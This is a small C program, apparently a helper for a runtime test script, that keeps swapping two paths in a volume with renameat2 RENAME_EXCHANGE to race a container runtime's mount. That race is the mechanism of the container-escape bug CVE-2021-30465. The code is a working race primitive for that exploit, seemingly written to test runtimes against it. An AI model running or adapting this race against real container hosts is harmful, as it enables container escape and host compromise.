// SPDX-License-Identifier: BSD-2-Clause
/*
 * oci_swap A B STOP: for oci_attacks.sh: whoever owns a volume swaps two names in it, over and over, while
 * a runtime mounts there (CVE-2021-30465). Ends when STOP exists, or with its parent; prints how often.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <signal.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	/* Long enough for the runtime to get on, short enough to fall between any two of its steps. */
	const struct timespec pause = {0, 30000};
	unsigned long n = 0;

	if (argc != 4 || prctl(PR_SET_PDEATHSIG, SIGKILL) < 0)
		return 2;
	do {
		if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
			perror("oci_swap: renameat2");
			return 1;
		}
		n++;
		(void)nanosleep(&pause, NULL);
	} while (n % 200 || access(argv[3], F_OK) < 0);
	printf("%lu\n", n);
	return 0;
}
